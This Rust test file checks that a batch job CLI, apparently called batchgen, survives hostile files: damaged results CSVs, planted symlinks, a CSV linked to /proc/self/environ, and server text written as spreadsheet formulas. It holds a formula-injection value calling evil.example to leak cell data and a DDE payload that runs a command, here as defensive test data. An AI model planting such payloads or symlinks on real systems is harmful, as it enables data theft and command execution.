//! A hostile world of files: damaged results files, two names for one
//! file, symlinks planted where batchgen writes, a CSV that is a link to
//! `/proc/self/environ`, a 600 MB line, and server text that would be a
//! spreadsheet formula. Each case drives the real binary and asserts what
//! the server accepted, what is on disk, the exit code, and that no secret
//! appears in any output.

mod common;

use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};

use batchgen::files::results::{self, Status};
use batchgen::sandbox::{Sandbox, SandboxConfig};
use common::*;

/// A folder with a 3-job manifest whose first two jobs were submitted by
/// a real run (`--max-jobs 2`), the third still pending.
async fn two_of_three(sandbox: &Sandbox) -> (tempfile::TempDir, PathBuf, PathBuf) {
    submitted_folder(sandbox, 3, Some("2")).await
}

/// What a damaged results file must lead to.
#[derive(Debug, Clone, Copy)]
enum Expect {
    /// The run goes on: this many requests, these final statuses.
    Runs(u64, [Status; 3]),
    /// The run stops, exit 78, naming this line; nothing sent, the file
    /// left byte for byte as it was.
    Stops(u64),
}

#[tokio::test(flavor = "multi_thread")]
async fn a_damaged_results_file_never_sends_a_job_twice() {
    use Status::*;
    let sandbox = common::sandbox(SandboxConfig::default()).await;
    let (_dir, manifest, results) = two_of_three(&sandbox).await;
    let good = std::fs::read_to_string(&results).unwrap();
    let lines: Vec<&str> = good.lines().collect();
    assert_eq!(lines.len(), 4, "{good}");
    let header = lines[0];
    let (job0, job1, job2) = (lines[1], lines[2], lines[3]);
    let cut = |row: &str, at: usize| row[..at].to_owned();
    let cases: Vec<(&str, String, Expect)> = vec![
        // Cut short mid-field after the id: job-2 may have been sent.
        (
            "last row cut mid-field",
            format!("{header}\n{job0}\n{job1}\n{}", cut(job2, 12)),
            Expect::Runs(0, [Submitted, Submitted, Unknown]),
        ),
        (
            "a journal row cut mid-quote",
            format!("{good}job-2,4,,failed,1,400,\"refused, ba"),
            Expect::Runs(0, [Submitted, Submitted, Unknown]),
        ),
        (
            "a row cut inside its id",
            format!("{good}job-"),
            Expect::Stops(5),
        ),
        (
            "a garbage line in the middle",
            format!("{header}\n{job0}\nhello world\n{job1}\n{job2}\n"),
            Expect::Stops(3),
        ),
        (
            "a garbage line naming a job",
            format!("{good}job-2,??\n"),
            Expect::Runs(0, [Submitted, Submitted, Unknown]),
        ),
        (
            "a bad value in a submitted row",
            format!(
                "{header}\n{job0}\n{}\n{job2}\n",
                job1.replace(",submitted,", ",Submitted,")
            ),
            Expect::Runs(1, [Submitted, Unknown, Submitted]),
        ),
        (
            "the header again in the middle",
            format!("{header}\n{job0}\n{header}\n{job1}\n{job2}\n"),
            Expect::Runs(1, [Submitted, Submitted, Submitted]),
        ),
        (
            "a well-formed row for an id not in the manifest",
            format!("{good}gone,9,t-9,submitted,1,,,,\n"),
            Expect::Runs(1, [Submitted, Submitted, Submitted]),
        ),
        (
            "a damaged row for an id not in the manifest",
            format!("{good}gone,9,t-9,Submitted\n"),
            Expect::Stops(5),
        ),
        (
            "lines appended by another program",
            format!("{good}2025-01-01 backup finished\n"),
            Expect::Stops(5),
        ),
        (
            "an unclosed quote swallowing rows",
            format!("{header}\n{job0}\njob-1,3,,failed,1,400,\"oops\n{job1}\n{job2}\n"),
            Expect::Stops(3),
        ),
        (
            "a tail of NUL bytes",
            format!("{good}\0\0\0\0\0\0\n"),
            Expect::Runs(1, [Submitted, Submitted, Submitted]),
        ),
        (
            "a NUL byte inside a row",
            format!(
                "{header}\n{job0}\n{job1}\n{}\n",
                job2.replace("pending", "pen\0ding")
            ),
            Expect::Runs(0, [Submitted, Submitted, Unknown]),
        ),
        (
            "CRLF line ends",
            good.replace('\n', "\r\n"),
            Expect::Runs(1, [Submitted, Submitted, Submitted]),
        ),
        (
            "a BOM",
            format!("\u{feff}{good}"),
            Expect::Runs(1, [Submitted, Submitted, Submitted]),
        ),
        // Nothing in it names a job: a new results file (3 jobs sent).
        (
            "an empty file",
            String::new(),
            Expect::Runs(3, [Submitted; 3]),
        ),
        (
            "a file of another kind",
            "name,age\nann,3\n".into(),
            Expect::Stops(1),
        ),
    ];
    for (name, text, expect) in cases {
        // Each case is a file the previous release left: no store yet.
        remove_state(&results);
        std::fs::write(&results, &text).unwrap();
        let before = sandbox.stats().requests;
        let out = run_checked(
            &sandbox,
            &[
                arg(&manifest),
                "--out",
                arg(&results),
                "--rate",
                "unlimited",
            ],
        )
        .await;
        let sent = sandbox.stats().requests - before;
        let err = stderr(&out);
        match expect {
            Expect::Runs(requests, statuses) => {
                assert_eq!(sent, requests, "{name}: requests\n{err}");
                let want = if statuses.contains(&Unknown) { 1 } else { 0 };
                assert_eq!(code(&out), want, "{name}\n{err}");
                let latest = results::latest(&results).unwrap();
                let got: Vec<Status> = latest.iter().take(3).map(|r| r.status).collect();
                assert_eq!(got, statuses, "{name}: {latest:?}");
                for r in latest.iter().take(3).filter(|r| r.status == Unknown) {
                    assert!(r.error.contains("damaged"), "{name}: {}", r.error);
                }
                if name.contains("not in the manifest") {
                    assert!(latest.iter().any(|r| r.id == "gone" && r.task_id == "t-9"));
                }
                // The task IDs of the first run are all still there.
                for (i, r) in latest.iter().take(2).enumerate() {
                    if name != "an empty file" && r.status == Submitted {
                        assert!(!r.task_id.is_empty(), "{name}: job-{i} lost its task ID");
                    }
                }
            }
            Expect::Stops(line) => {
                assert_eq!(code(&out), 78, "{name}\n{err}");
                assert_eq!(sent, 0, "{name}: nothing is sent");
                assert!(err.contains(&format!("r.csv:{line}:")), "{name}: {err}");
                for bad in ["delete it", "move it away", "remove the file"] {
                    assert!(!err.contains(bad), "{name}: {err}");
                }
                assert_eq!(std::fs::read_to_string(&results).unwrap(), text, "{name}");
            }
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn two_names_for_one_results_file_are_one_lock_and_the_link_stays() {
    let sandbox = common::sandbox(SandboxConfig::default()).await;
    let (dir, manifest, results) = two_of_three(&sandbox).await;
    std::fs::set_permissions(&results, std::fs::Permissions::from_mode(0o640)).unwrap();
    let link = dir.path().join("link.csv");
    symlink(&results, &link).unwrap();

    // A run holds the file through its real name: one through the link
    // is refused (exit 75), and sends nothing.
    let held = results::Lock::acquire(&results).unwrap();
    let before = sandbox.stats().requests;
    let out = run_checked(
        &sandbox,
        &[arg(&manifest), "--out", arg(&link), "--rate", "unlimited"],
    )
    .await;
    assert_eq!(code(&out), 75, "{}", stderr(&out));
    assert_eq!(sandbox.stats().requests, before);
    drop(held);

    // Through the link: the real file is rewritten in place, the link is
    // still a link, and the permission bits are kept.
    let out = run_checked(
        &sandbox,
        &[arg(&manifest), "--out", arg(&link), "--rate", "unlimited"],
    )
    .await;
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert_eq!(sandbox.stats().requests, before + 1);
    assert!(
        std::fs::symlink_metadata(&link)
            .unwrap()
            .file_type()
            .is_symlink()
    );
    let rows = results::latest(&results).unwrap();
    assert!(
        rows.iter().all(|r| r.status == Status::Submitted),
        "{rows:?}"
    );
    let mode = std::fs::metadata(&results).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o640);
    let left: Vec<_> = std::fs::read_dir(dir.path())
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.ends_with(".tmp"))
        .collect();
    assert!(left.is_empty(), "{left:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn planted_symlinks_are_never_written_through() {
    let sandbox = common::sandbox(SandboxConfig::default()).await;
    let dir = tempfile::tempdir().unwrap();
    let manifest = csv_manifest(dir.path(), 2);
    let victim = dir.path().join("victim.txt");
    std::fs::write(&victim, "precious").unwrap();
    let untouched = || assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious");

    // The lock's name.
    let results = dir.path().join("r.csv");
    symlink(&victim, dir.path().join("r.csv.lock")).unwrap();
    let out = run_checked(&sandbox, &[arg(&manifest), "--out", arg(&results)]).await;
    assert_eq!(code(&out), 73, "{}", stderr(&out));
    assert!(stderr(&out).contains("symlink"), "{}", stderr(&out));
    assert_eq!(sandbox.stats().requests, 0);
    untouched();

    // A dangling link as the results file: nothing is created through it.
    let target = dir.path().join("created-through-a-link.csv");
    let dangling = dir.path().join("d.csv");
    symlink(&target, &dangling).unwrap();
    let out = run_checked(&sandbox, &[arg(&manifest), "--out", arg(&dangling)]).await;
    assert_eq!(code(&out), 73, "{}", stderr(&out));
    assert!(!target.exists());
    assert_eq!(sandbox.stats().requests, 0);

    // The summary JSON's name: the run goes on, the summary is refused.
    let summary = dir.path().join("summary.json");
    symlink(&victim, &summary).unwrap();
    let good = dir.path().join("ok.csv");
    let out = run_checked(
        &sandbox,
        &[
            arg(&manifest),
            "--out",
            arg(&good),
            "--rate",
            "unlimited",
            "--summary-json",
            arg(&summary),
        ],
    )
    .await;
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert!(stderr(&out).contains("cannot write"), "{}", stderr(&out));
    assert_eq!(sandbox.stats().requests, 2);
    untouched();

    // `init` over planted links, with and without --force.
    let starter = dir.path().join("new.toml");
    symlink(&victim, &starter).unwrap();
    for force in [false, true] {
        let mut args = vec!["init".to_owned(), arg(&starter).to_owned()];
        if force {
            args.push("--force".into());
        }
        let out = run_with_env(args, vec![]).await;
        assert_ne!(code(&out), 0, "{}", stderr(&out));
        untouched();
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_killed_rewrites_temporary_file_is_cleaned_up_and_only_that() {
    let sandbox = common::sandbox(SandboxConfig::default()).await;
    let (dir, manifest, results) = two_of_three(&sandbox).await;
    // What `kill -9` during the final rewrite leaves: a temporary file of
    // a process that is gone (pid 2^22 + 1 is above Linux's pid_max).
    let orphan = dir.path().join(".r.csv.batchgen-4194305-99.tmp");
    std::fs::write(&orphan, "id,line\nhalf").unwrap();
    // Lookalikes that are not provably ours and stale: kept.
    let other_file = dir.path().join(".other.csv.batchgen-4194305-99.tmp");
    std::fs::write(&other_file, "x").unwrap();
    let mine = dir.path().join("r.csv.batchgen-4194305-99.tmp");
    std::fs::write(&mine, "x").unwrap();
    submit_ok(&sandbox, &manifest, &results).await;
    assert!(!orphan.exists());
    assert!(other_file.exists() && mine.exists());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_summary_json_naming_a_file_the_run_needs_is_refused_before_sending() {
    let sandbox = common::sandbox(SandboxConfig::default()).await;
    let (dir, manifest, results) = two_of_three(&sandbox).await;
    let csv = write(dir.path(), "rows.csv", "id,prompt\nx,a song\n");
    let toml = write(dir.path(), "m.toml", "csv = \"rows.csv\"\n");
    let link = dir.path().join("alias.csv");
    symlink(&results, &link).unwrap();
    let results_before = std::fs::read(&results).unwrap();
    let manifest_before = std::fs::read(&manifest).unwrap();
    let dotted = dir.path().join(".").join("r.csv");
    let lock = dir.path().join("r.csv.lock");
    let store = dir.path().join("r.db");
    let store_wal = dir.path().join("r.db-wal");
    for (m, summary, what) in [
        (&manifest, &store, "the results file's state file"),
        (&manifest, &store_wal, "the results file's state file"),
        (&manifest, &results, "the results file"),
        (&manifest, &dotted, "the results file"),
        (&manifest, &link, "the results file"),
        (&manifest, &lock, "the results file's lock"),
        (&manifest, &manifest, "the manifest"),
        (&toml, &csv, "the manifest's CSV"),
    ] {
        let out = run_checked(
            &sandbox,
            &[
                arg(m),
                "--out",
                arg(&results),
                "--summary-json",
                arg(summary),
            ],
        )
        .await;
        let err = stderr(&out);
        assert_eq!(code(&out), 2, "{}: {err}", summary.display());
        assert!(err.contains(&format!("is {what}")), "{err}");
        assert_eq!(sandbox.stats().requests, 2, "nothing sent");
    }
    assert_eq!(std::fs::read(&results).unwrap(), results_before);
    assert_eq!(std::fs::read(&manifest).unwrap(), manifest_before);
    assert_eq!(
        std::fs::read_to_string(&csv).unwrap(),
        "id,prompt\nx,a song\n"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_csv_linked_to_a_secret_is_refused_without_echoing_it() {
    let sandbox = common::sandbox(SandboxConfig::default()).await;
    let dir = tempfile::tempdir().unwrap();
    let elsewhere = tempfile::tempdir().unwrap();
    let key_file = write(elsewhere.path(), "key.csv", "sk-live-VERYSECRET,other\n");
    let secret = "sk-live-VERYSECRET";
    let cases: [(&str, PathBuf, &str, i32); 3] = [
        (
            "environ.toml",
            PathBuf::from("/proc/self/environ"),
            "outside this manifest's folder",
            65,
        ),
        (
            "key.toml",
            key_file.clone(),
            "outside this manifest's folder",
            65,
        ),
        // Given directly, not through a TOML: a kernel file is not a file.
        (
            "direct.csv",
            PathBuf::from("/proc/self/environ"),
            "not a regular file",
            66,
        ),
    ];
    for (name, target, says, exit) in cases {
        let manifest = if name.ends_with(".toml") {
            let csv = format!("{name}.csv");
            symlink(&target, dir.path().join(&csv)).unwrap();
            write(dir.path(), name, &format!("csv = \"{csv}\"\n"))
        } else {
            let path = dir.path().join(name);
            symlink(&target, &path).unwrap();
            path
        };
        for validate in [true, false] {
            let mut args = vec![];
            if validate {
                args.push("validate");
            }
            args.push(arg(&manifest));
            let out = run_with_env(
                args.iter().map(|s| s.to_string()).collect(),
                vec![
                    ("BATCHGEN_API_KEY".into(), sandbox.key().into()),
                    ("BATCHGEN_BASE_URL".into(), sandbox.base_url()),
                ],
            )
            .await;
            no_secret(&out, sandbox.key());
            no_secret(&out, secret);
            let err = stderr(&out);
            assert_eq!(code(&out), exit, "{name}: {err}");
            assert!(err.contains(says), "{name}: {err}");
        }
    }
    assert_eq!(sandbox.stats().requests, 0);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_600_mb_line_is_a_diagnostic_in_bounded_memory() {
    let sandbox = common::sandbox(SandboxConfig::default()).await;
    let dir = tempfile::tempdir().unwrap();
    let path = write(dir.path(), "jobs.csv", "id,prompt\nok,a song\nbig,\"");
    // Sparse: 600 MB of NUL bytes inside one quoted cell, in no time.
    std::fs::OpenOptions::new()
        .write(true)
        .open(&path)
        .unwrap()
        .set_len(600 << 20)
        .unwrap();
    let started = std::time::Instant::now();
    let out = run_checked(&sandbox, &[arg(&path)]).await;
    let err = stderr(&out);
    assert_eq!(code(&out), 65, "{err}");
    assert!(
        err.contains("jobs.csv:3: prompt: this row is over 1048576 bytes"),
        "{err}"
    );
    assert!(started.elapsed() < std::time::Duration::from_secs(10));
    assert_eq!(sandbox.stats().requests, 0);
    // Peak memory of the children this test binary waited for: far below
    // the 600 MB a whole-record read would take.
    // SAFETY: getrusage fills the struct it is given.
    let mut usage: libc::rusage = unsafe { std::mem::zeroed() };
    assert_eq!(
        unsafe { libc::getrusage(libc::RUSAGE_CHILDREN, &raw mut usage) },
        0
    );
    let peak_kib = usage.ru_maxrss;
    assert!(peak_kib < 200 * 1024, "peak {peak_kib} KiB");
}

/// A server whose task IDs and titles are spreadsheet formulas, and which
/// records the task IDs `collect` asks about.
#[tokio::test(flavor = "multi_thread")]
async fn server_text_never_becomes_a_formula_and_reads_back_exactly() {
    use axum::Json;
    use axum::extract::Query;
    use axum::routing::{get, post};
    use serde_json::json;

    const TASK: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
    const TITLE: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
    let asked: Arc<Mutex<Vec<String>>> = Arc::default();
    let seen = asked.clone();
    let app = axum::Router::new()
        .route(
            "/api/v2/generate",
            post(|| async { Json(json!({"code": 200, "message": "success", "workId": TASK})) }),
        )
        .route(
            "/api/v2/credits",
            get(|| async { Json(json!({"code": 200, "data": {"credits": 100}})) }),
        )
        .route(
            "/api/v2/feed",
            get(
                move |Query(q): Query<std::collections::HashMap<String, String>>| {
                    let seen = seen.clone();
                    async move {
                        seen.lock()
                            .unwrap()
                            .push(q.get("workId").cloned().unwrap_or_default());
                        Json(json!({"code": 200, "message": "success", "data": {
                        "type": "SUCCESS", "request_body": {},
                        "response_data": [{"id": "-clip", "status": "complete",
                            "title": TITLE, "tags": "+lofi", "model_name": "chirp-v3-5",
                            "audio_url": "", "image_url": "", "duration": 1.0,
                            "created_at": "2025-01-01T00:00:00Z", "error_message": "-"}]}}))
                    }
                },
            ),
        );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });

    let dir = tempfile::tempdir().unwrap();
    let manifest = csv_manifest(dir.path(), 1);
    let results = dir.path().join("r.csv");
    let key = "k-secret-123456";
    let out = run_at(&url, key, &[arg(&manifest), "--out", arg(&results)]).await;
    no_secret(&out, key);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let catalog = dir.path().join("c.csv");
    let args = [
        "collect",
        arg(&results),
        "--catalog",
        arg(&catalog),
        "--poll-interval",
        "100ms",
    ];
    let out = run_with_env(
        args.iter().map(|s| s.to_string()).collect(),
        vec![
            ("BATCHGEN_API_KEY".into(), key.into()),
            ("BATCHGEN_BASE_URL".into(), url.clone()),
        ],
    )
    .await;
    no_secret(&out, key);
    assert_eq!(code(&out), 0, "{}", stderr(&out));

    // On disk, no cell a spreadsheet would run.
    for file in [&results, &catalog] {
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_path(file)
            .unwrap();
        for row in reader.records() {
            for cell in row.unwrap().iter() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{}: {cell:?}",
                    file.display()
                );
            }
        }
    }
    // Read back: the server's exact text, and the exact task ID went back
    // to the server.
    assert_eq!(results::latest(&results).unwrap()[0].task_id, TASK);
    assert_eq!(
        asked.lock().unwrap().first().map(String::as_str),
        Some(TASK)
    );
    let mut reader = csv::Reader::from_path(&catalog).unwrap();
    let rows: Vec<batchgen::files::catalog::Row> =
        reader.deserialize().map(|r| r.unwrap()).collect();
    assert_eq!(
        (rows[0].title.as_str(), rows[0].task_id.as_str()),
        (TITLE, TASK)
    );
    assert_eq!(
        (rows[0].clip_id.as_str(), rows[0].style.as_str()),
        ("-clip", "+lofi")
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_download_never_writes_through_a_planted_part_file() {
    let sandbox = common::sandbox(SandboxConfig {
        stage_time: std::time::Duration::from_millis(100),
        ..SandboxConfig::default()
    })
    .await;
    let dir = tempfile::tempdir().unwrap();
    let manifest = csv_manifest(dir.path(), 1);
    let results = dir.path().join("r.csv");
    let out = run_checked(&sandbox, &[arg(&manifest), "--out", arg(&results)]).await;
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let songs = dir.path().join("songs");
    let collect = |songs: &Path| {
        let args = [
            "collect",
            arg(&results),
            "--download",
            arg(songs),
            "--poll-interval",
            "100ms",
        ];
        run_with_env(
            args.iter().map(|s| s.to_string()).collect(),
            vec![
                ("BATCHGEN_API_KEY".into(), sandbox.key().into()),
                ("BATCHGEN_BASE_URL".into(), sandbox.base_url()),
            ],
        )
    };
    let out = collect(&songs).await;
    no_secret(&out, sandbox.key());
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let mp3s: Vec<PathBuf> = std::fs::read_dir(&songs)
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .filter(|p| p.extension().is_some_and(|e| e == "mp3"))
        .collect();
    assert!(!mp3s.is_empty());
    // The files go, and a link to a victim waits under each `.part` name.
    let victim = dir.path().join("victim.txt");
    std::fs::write(&victim, "precious").unwrap();
    let mut catalog = csv::Reader::from_path(dir.path().join("r.catalog.csv")).unwrap();
    let rows: Vec<batchgen::files::catalog::Row> =
        catalog.deserialize().map(|r| r.unwrap()).collect();
    for mp3 in &mp3s {
        std::fs::remove_file(mp3).unwrap();
        let row = rows
            .iter()
            .find(|r| Path::new(&r.file).file_name() == mp3.file_name())
            .unwrap();
        let part =
            batchgen::engine::collect::download::resumable_part(mp3, &row.task_id, &row.clip_id);
        symlink(&victim, part).unwrap();
    }
    let out = collect(&songs).await;
    no_secret(&out, sandbox.key());
    assert_ne!(
        code(&out),
        0,
        "the downloads cannot be made: {}",
        stderr(&out)
    );
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious");
    assert!(mp3s.iter().all(|p| !p.exists()));
}
